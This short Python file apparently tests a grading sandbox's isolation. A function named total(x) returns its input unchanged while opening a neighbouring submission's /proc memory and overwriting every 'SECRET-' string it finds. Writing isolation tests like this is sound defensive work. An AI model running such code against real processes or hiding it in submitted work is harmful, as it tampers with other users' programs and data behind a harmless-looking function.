"""Writes into the memory of another's submission that is graded meanwhile.

must hold: no process, thread or file is left; the next submission finds nothing changed
stopped by: private root, Landlock
control: off, the neighbour is hurt
"""

import json
from pathlib import Path

TARGET = json.loads(Path("target.json").read_text())


def total(x):
    process = Path(f"/proc/{TARGET['neighbour']}")
    with (process / "mem").open("r+b", 0) as memory:
        for line in (process / "maps").read_text().splitlines():
            where, rights = line.split()[:2]
            begin, end = (int(text, 16) for text in where.split("-"))
            if rights == "rw-p" and end - begin < 1 << 28:
                memory.seek(begin)
                data = memory.read(end - begin)
                place = data.find(b"SECRET-")
                while place >= 0:
                    memory.seek(begin + place)
                    memory.write(b"NOTHING")
                    place = data.find(b"SECRET-", place + 1)
    return x
